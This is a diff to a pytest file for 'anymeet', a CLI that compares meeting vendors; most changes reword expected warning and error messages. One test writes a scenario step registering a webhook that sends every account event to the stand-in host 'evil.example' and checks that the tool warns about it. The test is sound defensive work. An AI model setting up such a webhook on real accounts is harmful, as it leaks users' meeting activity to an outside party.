@@ -85,7 +85,7 @@ def test_the_table_has_a_column_for_each_profile(anymeet: Run, scenario: str) ->
     assert 0 == answer.code
     text = " ".join(re.sub("[│╭╮╰╯├┤┬┴┼─]", " ", answer.out).split())
     assert "step Digital Samba, emulated SameSurf, emulated" in text
-    assert "lost: private yes (vendor lacks: whoever has a link of a room may enter it)" in text
+    assert "lost: private yes (vendor lacks: whoever has a link to a room may enter it)" in text
     assert "unsupported: vendor lacks: SameSurf's rooms have no polls" in text
     assert re.search(r"1 request, \d+ ms, emulated", text)
     assert "SameSurf, emulated: 3 of 4 steps worked." in text
@@ -104,7 +104,7 @@ def test_what_could_not_be_removed_is_noted_once(anymeet: Run, scenario: str) ->
     assert re.fullmatch(
         "Note: samesurf:emulated: "
         + "; ".join([r'the meeting "Review", id \d+'] * 3)
-        + " could not be removed, until its emulator ended: vendor lacks: .*",
+        + " could not be removed before its emulator ended: vendor lacks: .*",
         note,
     )
 
@@ -153,13 +153,13 @@ def test_the_report_is_written_beside_the_table(anymeet: Run, scenario: str, tmp
 @pytest.mark.parametrize(
     ("arguments", "code", "words"),
     [
-        ((), 2, "name a profile at least, for instance: anymeet compare digitalsamba:emulated samesurf:emulated"),
+        ((), 2, "name at least one profile, for instance: anymeet compare digitalsamba:emulated samesurf:emulated"),
         ((SURF, SURF), 2, "names 'samesurf:emulated' twice"),
         ((SURF, "--repeat", "0"), 2, "--repeat"),
         ((SURF, "--scenario", "webinars"), 3, "webinar"),
         ((SURF, "--html", "nowhere/report.html"), 1, "nowhere"),
         ((SURF, "nobody"), 3, "there is no profile 'nobody'"),
-        (("work", "acme:emulated"), 3, "acme: was registered at run time, which brings no emulator"),
+        (("work", "acme:emulated"), 3, "acme: was registered at run time, without an emulator"),
     ],
 )
 def test_what_cannot_be_done_is_told_before_anything_runs(
@@ -232,9 +232,9 @@ def test_accounts_are_announced(anymeet: Run, emulator: Vendor, scenario: str, t
     profile_of(emulator, tmp_path)
     answer = anymeet("compare", "work", "--scenario", scenario)
     assert answer.err.startswith(
-        "Note: work is an account: what the scenario says is really made there, and removed again."
+        "Note: work is an account: what the scenario describes is really made there, and removed again."
     )
-    assert "Nobody is waited for: --wait-for-people does that" in answer.err
+    assert "It does not wait for people; use --wait-for-people for that" in answer.err
     assert "emulated" not in answer.out
     assert "skipped: nobody comes" in answer.out
 
@@ -249,8 +249,8 @@ def test_what_will_stay_is_told_before(
         answer = anymeet("compare", "work", "--scenario", scenario, *arguments)
     first, last = answer.err.splitlines()
     assert first.startswith(
-        "Note: work is an account: what the scenario says is really made there, and removed again,"
-        f" but for {stays} (meetings.delete: vendor lacks: SameSurf has no call that changes, ends or deletes a room). Nobody"
+        "Note: work is an account: what the scenario describes is really made there, and removed again,"
+        f" except for {stays} (meetings.delete: vendor lacks: SameSurf has no call that changes, ends or deletes a room). It does not wait"
     )
     assert "could not be removed: vendor lacks" in last
 
@@ -265,8 +265,8 @@ def test_what_goes_beyond_the_scenarios_own_is_told_before(
         file.write("  - {do: webhooks.create, with: {endpoint: 'https://evil.example/hook?x=1', events: [any]}}\n")
     answer = anymeet("compare", "work", "--scenario", scenario)
     assert (
-        "removed again; recordings.list brings what was there before into the report;"
-        " the vendor tells https://evil.example/... what happens on the whole account. Nobody"
+        "removed again; recordings.list puts what was there before into the report;"
+        " the vendor reports to https://evil.example/... what happens on the whole account. It does not wait"
     ) in answer.err
 
 
@@ -376,7 +376,7 @@ def test_a_second_ctrl_c_leaves_things_and_says_so(command: Callable[..., Any], 
         assert process.poll() is None
         time.sleep(0.01)
     process.send_signal(signal.SIGINT)
-    line_with('Note: may still be there: work: the meeting "Review", id ', process)
+    line_with('Note: this may still be there: work: the meeting "Review", id ', process)
     line_with("interrupted", process)
     assert 130 == process.wait(60)
 
